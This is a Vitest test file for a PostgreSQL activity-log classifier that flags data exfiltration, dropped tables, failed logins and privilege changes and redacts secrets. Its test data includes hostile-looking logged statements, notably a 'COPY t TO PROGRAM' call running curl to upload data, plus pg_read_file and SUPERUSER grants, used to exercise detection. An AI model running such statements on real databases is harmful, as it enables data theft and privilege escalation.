import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadModule } from 'libpg-query';
import type { LogFormat } from '../../src/sources/logs/record.js';
import type { ActivityEvent } from '../../src/activity/monitor.js';
import { alertFor, type ActivityConfig } from '../../src/activity/rules.js';
import { USE_CASES } from '../../src/activity/use-cases.js';
import { BEYOND_SCENARIO, SCENARIO_SECRET } from '../../src/sandbox/activity-scenario.js';
import { MAX_LINE_BYTES } from '../../src/sources/logs/lines.js';
import { main } from '../../src/cli.js';
import { bufferIo } from '../helpers/io.js';
import { classifyRecordedLog } from '../helpers/classify-log.js';
import { KNOWN_LOG_LINE_PREFIXES } from '../../src/sources/logs/prefix.js';

const dir = mkdtempSync(join(tmpdir(), 'dbsec-activity-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
beforeAll(() => loadModule());

const FIXTURES = new URL('../../fixtures/logs/activity/', import.meta.url).pathname;
/** What the scenario's config tells dbsec: its view, its sensitive table, and who may read it. */
const SCENARIO_CONFIG: ActivityConfig = { views: ['act_customer_emails'], sensitiveTables: ['act_customers'] };
const classifyLog = (path: string, config: ActivityConfig = SCENARIO_CONFIG, format: LogFormat | 'auto' = 'auto', prefix?: string | readonly string[]) => classifyRecordedLog(path, config, format, prefix);


describe.each([
  ['activity-stderr-pg18.log', 'stderr', 'log_statement'],
  ['activity-pg15.csv', 'csvlog', 'log_statement'],
  ['activity-pg15.json', 'jsonlog', 'log_statement'],
  ['activity-pg18.csv', 'csvlog', 'log_statement'],
  ['activity-pg18.json', 'jsonlog', 'log_statement'],
  ['activity-pgaudit-pg15.log', 'stderr', 'pgaudit'],
])('the recorded scenario in %s', (file, format, source) => {
  it(`is read as ${format} (detected) and every use case of seed 000 is found`, async () => {
    const { events, stats } = await classifyLog(join(FIXTURES, file));
    expect(stats.format).toBe(format);
    expect(stats.skipped).toBe(0);
    const found = new Set(events.map((e) => e.useCase));
    expect(USE_CASES.filter((u) => !BEYOND_SCENARIO.includes(u) && !found.has(u))).toEqual([]);
    expect(events.some((e) => e.source === source)).toBe(true);
  });

  it('names who, what and which objects, with the default alert of each use case', async () => {
    const { events } = await classifyLog(join(FIXTURES, file));
    const drop = events.find((e) => e.command === 'DROP TABLE' && e.objects.includes('act_copy'))!;
    expect(drop).toMatchObject({ useCase: 'drop-table', user: 'postgres', database: 'postgres', objects: ['act_copy', 'act_staging'], alert: { status: 'investigate', rule: 'activity.drop-table' } });
    expect(drop.time).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    expect(drop.pid).toBeGreaterThan(0);
    expect(events.find((e) => e.command === 'ALTER TABLE' && e.notes.includes('DISABLE ROW LEVEL SECURITY'))!.alert).toEqual({ status: 'investigate', rule: 'activity.alter-table.high-risk' });
    expect(events.find((e) => e.command === 'ALTER TABLE' && e.notes.includes('ADD COLUMN'))!.alert).toEqual({ status: 'monitor', rule: 'activity.alter-table' });
    expect(events.find((e) => e.useCase === 'table-created')!.alert).toBeNull();
    expect(events.find((e) => e.useCase === 'data-exfiltration' && e.user === 'app_user')).toMatchObject({ command: 'SELECT', objects: ['act_customers'] });
    expect(events.find((e) => e.command === 'pg_dump')).toMatchObject({ useCase: 'data-exfiltration', application: 'pg_dump' });
  });

  it('joins the multi-line statements and never shows the scenario’s password', async () => {
    const { events } = await classifyLog(join(FIXTURES, file));
    expect(events.find((e) => e.command === 'CREATE TABLE' && e.objects.includes('act_customers'))!.statement).toContain('email text,\n  card text');
    expect(JSON.stringify(events)).not.toContain(SCENARIO_SECRET);
    expect(events.find((e) => e.useCase === 'user-created')!.statement).toMatch(/PASSWORD '\*\*\*'/);
  });
});

describe('activity.allowedClients', () => {
  const log = () => join(FIXTURES, 'activity-stderr-pg18.log');
  it('makes a session from an address outside the list unexpected-client, and one inside nothing', async () => {
    const outside = (await classifyLog(log(), { ...SCENARIO_CONFIG, allowedClients: ['10.0.0.0/8', '192.0.2.7'] })).events.filter((e) => e.useCase === 'unexpected-client');
    expect(outside).toHaveLength(4);
    expect(outside[0]).toMatchObject({ user: 'postgres', client: '127.0.0.1', alert: { status: 'monitor', rule: 'activity.unexpected-client' } });
    expect((await classifyLog(log(), { ...SCENARIO_CONFIG, allowedClients: ['127.0.0.0/8'] })).events.some((e) => e.useCase === 'unexpected-client')).toBe(false);
  });

  it('refuses an entry that is not an address or a CIDR', async () => {
    const { ActivityConfigSchema } = await import('../../src/activity/rules.js');
    expect(ActivityConfigSchema.safeParse({ allowedClients: ['10.0.0.0/8', 'fd00::/8'] }).success).toBe(true);
    expect(ActivityConfigSchema.safeParse({ allowedClients: ['office'] }).error?.issues[0]?.message).toBe('expected an IP address or a CIDR such as 10.0.0.0/8');
  });
});

describe('pgaudit row counts', () => {
  it('make a read of more rows than bulkRows a bulk read', async () => {
    const { events } = await classifyLog(join(FIXTURES, 'activity-pgaudit-pg15.log'), { bulkRows: 1 });
    const bulk = events.filter((e) => e.notes.some((n) => n.startsWith('read 2 rows')));
    expect(bulk.map((e) => [e.useCase, e.user, e.objects[0]])).toContainEqual(['data-exfiltration', 'app_user', 'public.act_customers']);
    const quiet = await classifyLog(join(FIXTURES, 'activity-pgaudit-pg15.log'), { bulkRows: 2 });
    expect(quiet.events.some((e) => e.notes.some((n) => n.startsWith('read ')))).toBe(false);
  });
});

describe('prepared statements', () => {
  it('carry their DETAIL parameters, secrets redacted', async () => {
    const { events } = await classifyLog(join(FIXTURES, 'activity-stderr-pg18.log'));
    const call = events.find((e) => e.command === 'SELECT' && e.objects.includes('set_config'))!;
    expect(call.statement).toBe('SELECT set_config($1, $2, false)');
    expect(call.parameters).toMatch(/^\$1 = 'application_name', \$2 = 'conn password=\*\*\*/);
  });
});

describe('damaged and hostile input is counted and skipped, never fatal', () => {
  const line = (n: number, message: string) => `2026-11-22 10:00:${String(n).padStart(2, '0')} UTC:10.0.0.5(5000):mallory@app:[77]:LOG:  ${message}`;

  it('skips garbage, binary and lines of another prefix, and keeps going', async () => {
    const path = join(dir, 'mixed.log');
    const garbage = Buffer.from([0x00, 0xff, 0xfe, 0x1b, 0x5b, 0x32, 0x4a, 0x0a]);
    writeFileSync(path, Buffer.concat([Buffer.from(`${line(1, 'statement: DROP TABLE one')}\nthis is not a log line\n`), garbage, Buffer.from(`[123] 2026 LOG: other prefix\n${line(2, 'statement: DROP TABLE two')}\n`)]));
    const { events, stats } = await classifyLog(path);
    expect(events.map((e) => e.objects[0])).toEqual(['one', 'two']);
    expect(stats.skipped).toBe(3);
  });

  it('cuts a huge line at the bound and still reads the next one', async () => {
    const path = join(dir, 'huge.log');
    writeFileSync(path, `${line(1, `statement: SELECT '${'x'.repeat(MAX_LINE_BYTES * 3)}'`)}\n${line(2, 'statement: TRUNCATE after_huge')}\n`);
    const { events, stats } = await classifyLog(path);
    expect(stats.truncated).toBe(1);
    expect(events.map((e) => [e.useCase, e.objects[0]])).toEqual([
      ['unparsed', undefined],
      ['truncate', 'after_huge'],
    ]);
  });

  it('reports a statement cut short in the log as unparsed, with its redacted text', async () => {
    const path = join(dir, 'cut.log');
    writeFileSync(path, `${line(1, "statement: CREATE ROLE x LOGIN PASSWORD 'hunter2' VALID UNTIL '2027")}\n`);
    const { events } = await classifyLog(path);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ useCase: 'unparsed', alert: null });
    expect(events[0]!.statement).not.toContain('hunter2');
  });

  it('reads an empty file as nothing, and a gzip log like a plain one', async () => {
    const empty = join(dir, 'empty.log');
    writeFileSync(empty, '');
    expect((await classifyLog(empty)).events).toEqual([]);
    const gz = join(dir, 'scenario.log.gz');
    writeFileSync(gz, gzipSync(readFileSync(join(FIXTURES, 'activity-stderr-pg18.log'))));
    expect((await classifyLog(gz)).events.length).toBe((await classifyLog(join(FIXTURES, 'activity-stderr-pg18.log'))).events.length);
  });

  it('fails a corrupt gzip with the reason', async () => {
    const gz = join(dir, 'corrupt.log.gz');
    writeFileSync(gz, gzipSync(readFileSync(join(FIXTURES, 'activity-stderr-pg18.log'))).subarray(0, 400));
    await expect(classifyLog(gz)).rejects.toThrow(/unexpected end of file/);
  });

  it('skips broken csvlog rows and jsonlog objects', async () => {
    const csv = join(dir, 'broken.csv');
    const rows = readFileSync(join(FIXTURES, 'activity-pg15.csv'), 'utf8').split('\n');
    writeFileSync(csv, [rows[0], '2026-11-22 10:00:00.000 UTC,"x', ...rows.slice(1)].join('\n'));
    const fromCsv = await classifyLog(csv);
    expect(fromCsv.events.length).toBeGreaterThan(20);
    const json = join(dir, 'broken.json');
    writeFileSync(json, `${readFileSync(join(FIXTURES, 'activity-pg15.json'), 'utf8')}{"timestamp": "2026-11-22 10:00:00 UTC", "message": \n["not", "an", "entry"]\n`);
    const fromJson = await classifyLog(json);
    expect(fromJson.stats.skipped).toBe(2);
    expect(fromJson.events.length).toBe((await classifyLog(join(FIXTURES, 'activity-pg15.json'))).events.length);
  });

  it('finds secrets wherever they sit: statement, parameters, application name, connection strings', async () => {
    const path = join(dir, 'secrets.log');
    writeFileSync(
      path,
      [
        line(1, "statement: ALTER ROLE app ENCRYPTED PASSWORD 'p1-secret'"),
        line(2, 'execute S_1: ALTER ROLE app PASSWORD $1'),
        `2026-11-22 10:00:02 UTC:10.0.0.5(5000):mallory@app:[77]:DETAIL:  Parameters: $1 = 'p2-secret'`,
        line(3, "statement: SELECT dblink_connect('host=db user=x password=p3-secret')"),
        line(4, "statement: COPY t TO PROGRAM 'curl https://admin:p4-secret@x/upload'"),
        line(5, "statement: SELECT 'postgres://u:p5-secret@db/x'::text, pg_read_file('x')"),
      ].join('\n'),
    );
    const { events } = await classifyLog(path);
    // the two password changes are events now: their passwords must not show in them
    expect(events.map((e) => e.useCase)).toEqual(['privileged-operation', 'privileged-operation', 'function-execution', 'data-exfiltration', 'data-exfiltration']);
    expect(events[1]!.parameters).toBe("$1 = '***'");
    const text = JSON.stringify(events);
    for (const secret of ['p1-secret', 'p2-secret', 'p3-secret', 'p4-secret', 'p5-secret']) expect(text).not.toContain(secret);
  });
});

describe.each([
  ['rds-prefix-pg15.log', 'stderr'],
  ['debian-prefix-pg15.log', 'stderr'],
  ['failed-logins-pg15.csv', 'csvlog'],
  ['failed-logins-pg15.json', 'jsonlog'],
  ['failed-logins-pg18.csv', 'csvlog'],
  ['failed-logins-pg18.json', 'jsonlog'],
  ['failed-logins-pg15-syslog.log', 'syslog'],
])('the recorded failed logins in %s', (file) => {
  const path = new URL(`../../fixtures/logs/${file}`, import.meta.url).pathname;
  const failed = async (config: ActivityConfig = {}) => (await classifyLog(path, config, 'auto', KNOWN_LOG_LINE_PREFIXES)).events.filter((e) => e.useCase === 'failed-login');

  it('are events, and alert once the failures from one client pass the bound', async () => {
    const events = await failed();
    // four wrong passwords for app_user and four for admin, a role that does not exist, alternating from one client
    expect(events.map((e) => e.objects[0])).toEqual(['app_user', 'admin', 'app_user', 'admin', 'app_user', 'admin', 'app_user', 'admin']);
    expect(events.every((e) => e.client === '127.0.0.1' && e.command === 'LOGIN')).toBe(true);
    expect(events.filter((e) => e.alert).map((e) => [e.alert, e.notes[0]])).toEqual([[{ status: 'monitor', rule: 'activity.failed-login' }, 'wrong password; failure 3 for this user, 6 from 127.0.0.1']]);
    expect(events.filter((e) => e.objects[0] === 'admin').every((e) => e.notes.includes('the role does not exist: guessing role names?'))).toBe(true);
    expect(events.filter((e) => e.objects[0] === 'app_user').some((e) => e.notes.some((n) => /does not exist/.test(n)))).toBe(false);
  });

  it('alert once per bound passed, per user and per client, under the configured bounds', async () => {
    const events = await failed({ failedLogins: { monitorAbove: 1, investigateAbove: 3 } });
    expect(events.map((e) => e.alert?.status ?? null)).toEqual([null, 'monitor', 'monitor', 'investigate', null, null, 'investigate', 'investigate']);
  });
});

describe('pgaudit sub-statements (activity-pgaudit-pg15.log)', () => {
  it('are classified on their own: the roles the sandbox creates inside DO blocks, each once', async () => {
    const { events } = await classifyLog(join(FIXTURES, 'activity-pgaudit-pg15.log'));
    const inner = events.filter((e) => e.notes.some((n) => n.startsWith('run inside statement')));
    expect(inner.map((e) => [e.useCase, e.objects[0], e.statement])).toEqual([
      ['user-created', 'dbsec_auditor', "CREATE ROLE dbsec_auditor LOGIN PASSWORD '***'"],
      ['user-created', 'app_user', "CREATE ROLE app_user LOGIN PASSWORD '***'"],
      ['user-created', 'reporting', "CREATE ROLE reporting LOGIN PASSWORD '***'"],
    ]);
    // the top statement's own later entries (SELECT act_total() as sub-statement 3) are not counted again
    expect(events.filter((e) => e.statement === 'SELECT act_total()')).toHaveLength(1);
  });
});

describe('the recorded interruptions (interruptions-pg18.log)', () => {
  const path = join(FIXTURES, 'interruptions-pg18.log');
  const ended = async (config: ActivityConfig = {}) => (await classifyLog(path, config)).events.filter((e) => ['long-running', 'statement-cancelled', 'session-terminated'].includes(e.useCase));

  it('are events, each saying how the statement or the session ended, with the session\'s application', async () => {
    const events = await ended({ longRunning: '300ms' });
    expect(events.map((e) => [e.useCase, e.notes[0], e.statement, e.application])).toEqual([
      // pg_sleep(0.4) as recorded: a little over 400 ms
      ['long-running', expect.stringMatching(/^ran 4\d\d ms$/), 'SELECT pg_sleep(0.4)', 'dba-console'],
      ['statement-cancelled', 'cancelled: statement timeout', 'SELECT pg_sleep(2)', 'report-builder'],
      ['statement-cancelled', 'cancelled: user request', 'SELECT pg_sleep(30)', 'billing-export'],
      ['session-terminated', 'terminated: idle-in-transaction timeout', '', 'billing-export'],
      ['session-terminated', 'terminated: administrator command', 'SELECT pg_sleep(30)', 'report-builder'],
      ['session-terminated', 'terminated: administrator command (the server was shutting down)', 'SELECT pg_sleep(30)', 'report-builder'],
    ]);
  });

  it('alert on a statement past longRunning and on an operator\'s terminate, not on timeouts or the shutdown', async () => {
    const events = await ended({ longRunning: '300ms' });
    expect(events.map((e) => e.alert?.rule ?? null)).toEqual(['activity.long-running', null, null, null, 'activity.session-terminated', null]);
    // under the default of 5 minutes, a 0.4 s statement is not long-running
    expect((await ended()).map((e) => e.useCase)).not.toContain('long-running');
  });
});

describe('the recorded refused statements (attempts-pg18.log, log_statement = ddl)', () => {
  it('are attempts: outcome failed with the error, alerting unless log_statement showed them when they started', async () => {
    // through the whole road: the stderr reader keeps only the lines activity asks for, DETAIL and STATEMENT included
    const io = bufferIo(new Date('2026-12-01T00:00:00Z'));
    expect(await main(['node', 'dbsec', 'activity', '--log-file', join(FIXTURES, 'attempts-pg18.log'), '--since', '3650d', '--format', 'jsonl', '--events'], io)).toBe(1);
    const events: ActivityEvent[] = io.out().trim().split('\n').map((l) => JSON.parse(l)).filter((l) => l.type === 'event' && l.user === 'app_user');
    expect(events.map((e) => [e.useCase, e.outcome, e.alert?.status ?? null, e.notes[0], e.statement])).toEqual([
      ['drop-table', null, 'investigate', undefined, 'DROP TABLE payroll'],
      ['drop-table', 'failed', null, 'failed: must be owner of table payroll (logged when it started)', 'DROP TABLE payroll'],
      ['permission-denied', 'failed', 'monitor', 'failed: permission denied for table payroll', 'SELECT * FROM payroll'],
      ['privileged-operation', null, 'investigate', 'SUPERUSER', 'ALTER ROLE app_user SUPERUSER'],
      ['privileged-operation', 'failed', null, 'failed: permission denied to alter role (logged when it started)', 'ALTER ROLE app_user SUPERUSER'],
      ['data-exfiltration', 'failed', 'investigate', 'failed: permission denied to COPY to a file', "COPY payroll TO '/tmp/payroll.csv'"],
    ]);
    // the mistyped statement is no attempt at anything
    expect(io.out()).not.toContain('SELEC 1');
  });
});

describe('rules', () => {
  it('let an allow-listed role alter tables in its window, and silence a use case', async () => {
    const config: ActivityConfig = {
      ...SCENARIO_CONFIG,
      rules: { 'alter-table': { allow: [{ roles: ['postgres'], hours: '00:00-23:59' }] }, 'drop-table': { status: 'log' }, 'table-created': { status: 'monitor' } },
      highRiskAlterTable: 'monitor',
    };
    const { events } = await classifyLog(join(FIXTURES, 'activity-stderr-pg18.log'), config);
    expect(events.filter((e) => e.useCase === 'alter-table').map((e) => e.alert)).toEqual([null, null]);
    expect(events.filter((e) => e.useCase === 'drop-table').every((e) => e.alert === null)).toBe(true);
    expect(events.find((e) => e.useCase === 'table-created')!.alert).toEqual({ status: 'monitor', rule: 'activity.table-created' });
  });

  it('record a REVOKE without alerting and see a GRANT at investigate, unless the config sets the status', () => {
    const privileged = (command: string) => ({ useCase: 'privileged-operation' as const, command, highRisk: false, user: 'dba', objects: ['t'], severity: 'medium' as const });
    expect(alertFor(privileged('REVOKE'), {})).toBeNull();
    expect(alertFor(privileged('GRANT'), {})).toEqual({ status: 'investigate', rule: 'activity.privileged-operation' });
    expect(alertFor(privileged('REVOKE'), { rules: { 'privileged-operation': { status: 'investigate' } } })).toEqual({ status: 'investigate', rule: 'activity.privileged-operation' });
    // an ALTER ROLE that grants no power is seen the same way; one that grants SUPERUSER is not
    expect(alertFor(privileged('ALTER ROLE'), {})).toEqual({ status: 'monitor', rule: 'activity.privileged-operation.role-change' });
    expect(alertFor({ ...privileged('ALTER ROLE'), highRisk: true }, {})).toEqual({ status: 'investigate', rule: 'activity.privileged-operation' });
  });

  it('alert outside the allowed hours and for other roles', async () => {
    const late: ActivityConfig = { rules: { 'alter-table': { allow: [{ roles: ['postgres'], hours: '02:00-02:01' }] } } };
    const other: ActivityConfig = { rules: { 'alter-table': { allow: [{ roles: ['migrator'] }] } } };
    for (const config of [late, other]) {
      const { events } = await classifyLog(join(FIXTURES, 'activity-stderr-pg18.log'), config);
      expect(events.filter((e) => e.useCase === 'alter-table').map((e) => e.alert?.status)).toEqual(['monitor', 'investigate']);
    }
  });
});
